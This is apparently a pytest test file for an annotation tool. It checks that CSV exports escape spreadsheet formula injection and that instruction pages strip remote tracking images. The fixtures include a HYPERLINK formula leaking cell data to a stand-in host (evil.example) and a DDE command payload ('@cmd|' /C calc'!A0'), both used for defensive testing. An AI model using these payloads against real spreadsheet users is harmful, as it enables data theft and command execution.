"""CSV exports are safe to open in a spreadsheet (formula injection), while JSONL and Parquet keep the
text as written; rendered instructions never load a remote image (PRODUCT, "Operations and limits")."""

import csv
import json
import re
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.core.management import call_command

from annotations.export.writers import csv_safe
from annotations.instructions import render_markdown

from .export_builders import rank
from .factories import make_prompt

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def export(tmp_path: Path, fmt: str) -> Path:
    out = tmp_path / fmt
    call_command("export_pairs", "--project", "helpful", "--out", str(out), "--format", fmt)
    return out / f"pairs.{fmt}"


@pytest.fixture
def formula_prompt(project, alice):
    prompt = make_prompt(project, [FORMULAS[0], FORMULAS[1], "plain = fine"], external_id="-1+1",
                         text="@cmd|' /C calc'!A0")
    rank(prompt, alice, [[1], [2], [3]])
    return prompt


def test_csv_cells_that_start_a_formula_are_prefixed_with_a_quote(tmp_path, formula_prompt):
    with open(export(tmp_path, "csv"), newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 3
    assert {row["prompt"] for row in rows} == {"'@cmd|' /C calc'!A0"}
    assert {row["prompt_id"] for row in rows} == {"'-1+1"}
    texts = {row["chosen"] for row in rows} | {row["rejected"] for row in rows}
    assert texts == {"'" + FORMULAS[0], "'" + FORMULAS[1], "plain = fine"}
    # Numbers are numbers, not text: left alone.
    assert {row["chosen_rank"] for row in rows} <= {"1", "2"}


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_text_as_written(tmp_path, formula_prompt, fmt):
    path = export(tmp_path, fmt)
    rows = ([json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if fmt == "jsonl"
            else pq.read_table(path).to_pylist())
    assert {row["prompt"] for row in rows} == {"@cmd|' /C calc'!A0"}
    assert {row["prompt_id"] for row in rows} == {"-1+1"}
    assert {row["chosen"] for row in rows} | {row["rejected"] for row in rows} == {FORMULAS[0], FORMULAS[1],
                                                                                  "plain = fine"}


def test_csv_safe_covers_every_formula_start_and_nothing_else():
    assert [csv_safe(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
    assert [csv_safe(v) for v in ["a=b", " =x", "", None, -1, 2.5]] == ["a=b", " =x", "", None, -1, 2.5]


@pytest.mark.parametrize("src", [
    "http://tracker.example/pixel.png", "https://tracker.example/pixel.png", "//tracker.example/pixel.png",
    "HTTPS://tracker.example/p.png", " //tracker.example/p.png", "data:image/png;base64,AAAA",
])
def test_remote_images_are_stripped_from_instructions(src):
    html = render_markdown(f"Look: ![diagram]({src})\n\n<img src=\"{src}\">")  # raw HTML shows as text
    assert re.findall(r"<img[^>]*>", html) == ['<img alt="diagram">']


def test_same_site_images_are_kept():
    assert '<img src="/static/labelhub/diagram.png" alt="diagram">' in render_markdown(
        "![diagram](/static/labelhub/diagram.png)")


def test_instructions_page_never_carries_a_remote_image(project, pam):
    from annotations.projects import publish_instructions

    from .factories import page_client

    publish_instructions(project, "# Read me\n\n![x](https://tracker.example/pixel.png)")
    page = page_client(pam).get("/projects/helpful/instructions/").content.decode()
    assert "Read me" in page
    assert 'src="https://tracker.example' not in page


def test_kto_csv_cells_that_start_a_formula_are_prefixed_with_a_quote(tmp_path, formula_prompt):
    out = tmp_path / "kto"
    call_command("export_pairs", "--project", "helpful", "--out", str(out), "--format", "csv", "--kind", "kto")
    [path] = [p for p in out.iterdir() if p.suffix == ".csv"]
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["prompt"] for row in rows} == {"'@cmd|' /C calc'!A0"}
    assert {row["completion"] for row in rows} >= {"'" + FORMULAS[0]}
